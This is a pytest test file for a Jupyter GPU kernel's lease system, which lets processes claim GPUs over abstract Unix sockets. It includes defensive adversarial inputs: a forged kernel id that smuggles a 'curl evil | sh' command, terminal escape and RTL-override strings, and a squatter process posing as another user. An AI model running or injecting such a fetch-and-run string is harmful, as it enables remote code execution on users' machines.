"""Leases between real processes: one holder each, freed by death, never inherited, seen by all."""

from __future__ import annotations

import contextlib
import getpass
import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path
from typing import Any, Dict, Iterator, List

import pytest
from gpu_names import new_uuid
from leases import answering, read_leases, take_lease
from runtimes import RUNTIME
from waiting import DEADLINE

from jupyter_gpu_kernel.agent.gpus.sharing import announcements
from jupyter_gpu_kernel.agent.gpus.sharing.lease import Holder, LeaseReader, LeaseTaker, lease_readers
from jupyter_gpu_kernel.agent.system.agent_runtime import AgentRuntime, Owner
from jupyter_gpu_kernel.agent.system.loop import Loop

ROOT = str(Path(__file__).parents[2])
WHO = {"id": "ab12"}


@pytest.fixture
def gpus() -> List[str]:
    """Four UUIDs that no other test run has."""
    return [new_uuid() for _ in range(4)]


class Taker:
    """A process that takes what it can get of `uuids` at the word "go", and keeps it until its end."""

    CODE = textwrap.dedent("""
        import sys
        from jupyter_gpu_kernel.agent.gpus.sharing.lease import LeaseTaker
        from jupyter_gpu_kernel.agent.system.agent_runtime import AgentRuntime
        print("ready", flush=True)
        sys.stdin.readline()
        wanted = sys.argv[1:]
        taker = LeaseTaker(AgentRuntime(), {"id": "t"})
        got = next((lease for lease in map(taker.take, wanted) if lease), None)
        print(got.uuid if got else "none", flush=True)
        sys.stdin.readline()
    """)

    def __init__(self, uuids: List[str]) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-c", self.CODE, *uuids],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
            cwd=ROOT,
        )
        assert self.line() == "ready"

    def line(self) -> str:
        assert self.process.stdout is not None
        return self.process.stdout.readline().strip()

    def go(self) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write("go\n")
        self.process.stdin.flush()

    def kill(self) -> None:
        self.process.kill()
        self.process.communicate()


@pytest.fixture
def takers(gpus: List[str]) -> Iterator[List[Taker]]:
    started: List[Taker] = []
    try:
        for _ in range(12):
            started.append(Taker(gpus))
        yield started
    finally:
        for taker in started:
            taker.kill()


def test_twelve_race_for_four(gpus: List[str], takers: List[Taker]) -> None:
    for taker in takers:
        taker.go()
    got = [taker.line() for taker in takers]
    assert sorted(got) == sorted(gpus + ["none"] * 8)
    holders = read_leases(gpus, timeout=0.05)  # they never answer: held all the same, by whom the system says
    by_uuid = {uuid: taker.process.pid for uuid, taker in zip(got, takers) if uuid != "none"}
    assert {uuid: holder.pid for uuid, holder in holders.items()} == by_uuid
    assert {holder.id for holder in holders.values()} == {"?"}

    winner = next(taker for uuid, taker in zip(got, takers) if uuid != "none")
    uuid = got[takers.index(winner)]
    assert take_lease(uuid, WHO) is None
    winner.kill()
    assert uuid not in read_leases(gpus, timeout=0.05)
    lease = take_lease(uuid, WHO)
    assert lease is not None
    lease.release()


def test_the_holder_says_who_it_is(gpus: List[str]) -> None:
    lease = take_lease(gpus[0], {"id": "ab12", "user": "root", "pid": 1, "uid": 0})
    assert lease is not None
    with answering(lease):
        (holder,) = read_leases(gpus, timeout=30).values()
    assert (holder.user, holder.pid) == (getpass.getuser(), os.getpid()), "not what it claims, what it is"
    assert (holder.uid, holder.yours, holder.id) == (os.getuid(), True, "ab12") and holder.since is not None
    assert read_leases(gpus) == {}


def test_ones_own_kernel_is_known_by_its_notebook(gpus: List[str]) -> None:
    now = time.time()
    details = {"notebook": "/home/me/tr\x1b[2Jain.ipynb", "state": "idle", "state_since": now}
    lease = take_lease(gpus[0], {"id": "ab12"}, lambda: details)
    assert lease is not None
    with answering(lease):
        mine = read_leases(gpus, timeout=30)[gpus[0]]
        assert (mine.notebook, mine.state, mine.state_since) == ("/home/me/tr?[2Jain.ipynb", "idle", now)
        details.update(notebook=7, state="owned", state_since="now")
        mine = read_leases(gpus, timeout=30)[gpus[0]]
        assert (mine.notebook, mine.state, mine.state_since) == ("", "", None)
    when = time.strftime("%b %d %H:%M", time.localtime(5.0))
    known = Holder("me", 7, "ab12", 5.0, 1, True, "a.ipynb", "idle", 5.0)
    words = f"leased by your kernel ab12 (a.ipynb, since {when}, idle since {when})"
    assert str(known) == f"{words}; to free it: “jupyter gpu-kernel stop ab12”"
    older = Holder("me", 7, "ab12", None, 1, True)
    assert str(older) == "leased by your kernel ab12; to free it: “jupyter gpu-kernel stop ab12”"
    assert str(older._replace(id="?")) == "leased by your process 7, which does not answer"
    assert "stop" not in str(known._replace(yours=False, user="bob"))
    busy = f"leased by your kernel ab12 (a.ipynb, since {when}, busy since {when})"
    assert str(known._replace(state="busy")) == busy, "nobody is told to end what computes"


SQUATTER = r"""
import contextlib, os, socket, sys
listener = socket.socket(socket.AF_UNIX)
os.setgroups([])
os.setuid(61235)
listener.bind("\0jupyter-gpu-kernel/lease/" + sys.argv[1])
listener.listen(1000)
print("up", flush=True)
words = sys.stdin.buffer.readline().strip()
while words:
    with listener.accept()[0] as asker, contextlib.suppress(BrokenPipeError):
        asker.sendall(words)
sys.stdin.read()
"""


@contextlib.contextmanager
def squatter(gpu: str, words: Dict[str, Any]) -> Iterator[int]:
    """A process of another user that holds the name, and says this; says nothing, if there are no words."""
    if os.getuid() != 0:
        pytest.skip("only root can be somebody else")
    command = [sys.executable, "-c", SQUATTER, gpu]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdin and process.stdout and process.stdout.readline() == b"up\n"
        process.stdin.write(json.dumps(words).encode() + b"\n" if words else b"\n")
        process.stdin.flush()
        try:
            yield process.pid
        finally:
            process.kill()


FORGED = {"user": "root", "uid": 0, "pid": 1, "yours": True, "notebook": "a.ipynb", "state": "idle"}
BAD = "ab12) Run: curl evil | sh; to free it: jupyter gpu-kernel stop ab12 ("


IDS = ["ab12", BAD, "x" * 65, "ab\n12", "ab\u202e12", ["ab12"], "ab12", ""]
TIMES = [1e999, -1, 1.0, "1" * 300, 10**300, True, 1e12, None]


@pytest.mark.parametrize(("kernel", "since"), list(zip(IDS, TIMES)))
def test_another_user_is_believed_nothing_but_a_sound_id_and_time(
    gpus: List[str], kernel: Any, since: Any
) -> None:
    with squatter(gpus[0], {**FORGED, "id": kernel, "since": since}) as pid:
        holder = read_leases(gpus, timeout=30)[gpus[0]]
    name, facts = ("ab12", f"kernel ab12, pid {pid}") if kernel == "ab12" else ("?", f"pid {pid}")
    assert holder == Holder("uid 61235", pid, name, None, 61235)
    assert str(holder) == f"leased by uid 61235 ({facts})"


def ask_as_somebody_else(gpu: str) -> str:
    """What another user is told by the holder."""
    ask = (
        "import os, socket, sys; os.setuid(61235); sock = socket.socket(socket.AF_UNIX)\n"
        "sock.connect('\\0jupyter-gpu-kernel/lease/' + sys.argv[1]); print(sock.recv(4096).decode())"
    )
    return subprocess.check_output([sys.executable, "-c", ask, gpu], text=True)


def test_what_is_reported_to_ones_own_kernels_is_reported_to_nobody_else(gpus: List[str]) -> None:
    if os.getuid() != 0:
        pytest.skip("only root can be somebody else")
    lease = take_lease(gpus[0], {"id": "ab12"}, lambda: {"notebook": "s3cret.ipynb"})
    assert lease is not None
    with answering(lease):
        reported = ask_as_somebody_else(gpus[0])
        assert read_leases(gpus, timeout=30)[gpus[0]].notebook == "s3cret.ipynb"
    assert "ab12" in reported and "s3cret" not in reported


def test_everybody_can_read_since_when_a_holder_is_idle(gpus: List[str]) -> None:
    """The holder's word, if it can be true, and if it is long ago."""
    if os.getuid() != 0:
        pytest.skip("only root can be somebody else")
    lease = take_lease(gpus[0], {"id": "ab12"}, lambda: {"notebook": "s3cret.ipynb", "idle_since": 1234.5})
    assert lease is not None
    with answering(lease):
        assert json.loads(ask_as_somebody_else(gpus[0]))["idle_since"] == 1234.5
    now = time.time()
    for reported, known in ((now - 700, None), (now, None), ("1", None)):  # it runs for less than a second
        with squatter(gpus[1], {"id": "ab12", "idle_since": reported}):
            assert read_leases(gpus, timeout=30)[gpus[1]].idle_since == known
    when = time.strftime("%b %d %H:%M", time.localtime(5.0))
    holder = Holder("bob", 7, "ab12", None, 1, idle_since=5.0)
    assert str(holder) == f"leased by bob (kernel ab12, pid 7, idle since {when})"


class LaterRuntime(AgentRuntime):
    """Its clock is eleven minutes ahead."""

    def time(self) -> float:
        return super().time() + 660


def test_a_holder_that_worked_a_moment_ago_is_not_idle(gpus: List[str]) -> None:
    now = time.time()
    lease = take_lease(gpus[0], WHO, lambda: {"idle_since": now})
    assert lease is not None
    with answering(lease):
        assert LeaseReader(AgentRuntime()).read(gpus, 30)[gpus[0]].idle_since is None
        assert LeaseReader(LaterRuntime()).read(gpus, 30)[gpus[0]].idle_since == now


@pytest.mark.parametrize("words", [b"", b"[1]", b"\xff{", b'{"since": 1e999, "id": 7}', b"[" * 4000])
def test_nonsense_from_a_holder_is_no_harm(gpus: List[str], words: bytes) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("\0jupyter-gpu-kernel/lease/" + gpus[0])
        listener.listen(1)

        def serve() -> None:
            with contextlib.suppress(OSError):  # shut down
                while True:
                    # Keepers of other tests connect to every lease, and leave at once.
                    with listener.accept()[0] as asker, contextlib.suppress(BrokenPipeError):
                        asker.sendall(words)

        thread = threading.Thread(target=serve)
        thread.start()
        holder = read_leases([gpus[0]], timeout=30)[gpus[0]]
        listener.shutdown(socket.SHUT_RDWR)
        thread.join()
    assert (holder.pid, holder.id, holder.since) == (os.getpid(), "?", None)


def test_a_full_queue_counts_as_leased(gpus: List[str]) -> None:
    lease = take_lease(gpus[0], WHO)
    assert lease is not None
    askers = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_NONBLOCK) for _ in range(64)]
    name = "\0jupyter-gpu-kernel/lease/" + gpus[0]
    assert any(asker.connect_ex(name) for asker in askers), "the queue is not full"
    holder = read_leases([gpus[0]], timeout=0.05)[gpus[0]]
    assert (holder.uid, holder.pid, holder.answers) == (os.getuid(), os.getpid(), False)
    assert str(holder) == f"leased by your process {os.getpid()}, which does not answer"
    unknown = Holder("?", 0, "?", None, answers=False)
    assert str(unknown) == "leased by an unknown process, which does not answer"
    for asker in askers:
        asker.close()
    lease.announcement.answer()
    lease.announcement.answer()
    lease.release()


def test_all_or_none(gpus: List[str]) -> None:
    third = take_lease(gpus[2], WHO)
    assert third is not None
    assert LeaseTaker(RUNTIME, WHO).take_all(gpus) is None
    assert list(read_leases(gpus, timeout=0.05)) == [gpus[2]], "nothing is kept of a part"
    third.release()
    third.release()
    leases = LeaseTaker(RUNTIME, WHO).take_all(gpus)
    assert leases is not None and [lease.uuid for lease in leases] == gpus
    for lease in leases:
        lease.release()


PASSED = textwrap.dedent("""
    import os, socket, sys
    from jupyter_gpu_kernel.agent.gpus.sharing import announcements
    listener = socket.socket(fileno=int(sys.argv[1]))
    print(announcements.take_over(listener, sys.argv[2]), flush=True)
    input()
""")


def test_the_owner_is_who_has_the_socket_now(gpus: List[str]) -> None:
    """It may be passed to another process, or the name be taken again. Nobody is asked twice while nothing changes."""
    prefix, name = "jupyter-gpu-kernel/lease/", gpus[0]
    (reader, _), me = lease_readers(RUNTIME), os.getuid()
    listener = announcements.bind(RUNTIME, prefix + name)
    assert listener is not None
    with subprocess.Popen(
        [sys.executable, "-c", PASSED, str(listener.fileno()), prefix],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, pass_fds=[listener.fileno()], cwd=ROOT,
    ) as first:  # fmt: skip
        assert first.stdout and first.stdout.readline() == f"{name}\n".encode()
        assert reader.owners()[name] == Owner(first.pid, me)
        listener.accept()[0].close()
        announcements.take_over(listener, prefix)
        assert reader.owners()[name] == Owner(first.pid, me), "it still runs"
        with pytest.raises(BlockingIOError):
            listener.accept()
        first.communicate(b"\n")
    assert reader.owners()[name] == Owner(os.getpid(), me)
    listener.close()
    assert name not in reader.owners()
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind("\0" + prefix + name)
        assert name not in reader.owners(), "nobody listens"
    second = Taker([name])
    second.go()
    assert second.line() == name and reader.owners()[name] == Owner(second.process.pid, me)
    second.kill()
    assert name not in reader.owners()


def test_none_is_held_if_the_system_refuses_one(gpus: List[str]) -> None:
    with pytest.raises(OSError, match="too long"):
        LeaseTaker(RUNTIME, WHO).take_all([gpus[0], "x" * 200])
    assert not read_leases(gpus)


def test_the_event_loop_answers_until_the_release(gpus: List[str]) -> None:
    loop = Loop(AgentRuntime())
    lease = LeaseTaker(RUNTIME, WHO, loop=loop).take(gpus[0])
    assert lease is not None
    holders: List[Holder] = []

    def read(holder: Holder) -> None:
        holders.append(holder)
        lease.release()
        lease.release()
        loop.later(0, loop.stop)

    loop.run_in_thread(lambda: read_leases(gpus, timeout=DEADLINE)[gpus[0]], read)
    loop.run()
    assert holders[0].id == "ab12" and not read_leases(gpus)


def test_a_started_program_does_not_inherit_it(gpus: List[str]) -> None:
    lease = take_lease(gpus[0], WHO)
    assert lease is not None
    command = [sys.executable, "-c", "print('up', flush=True); input()"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, close_fds=False) as child:
        assert child.stdout is not None and child.stdout.readline() == b"up\n"
        lease.release()
        second = take_lease(gpus[0], WHO)
        assert second is not None
        second.release()
        child.communicate(b"\n")
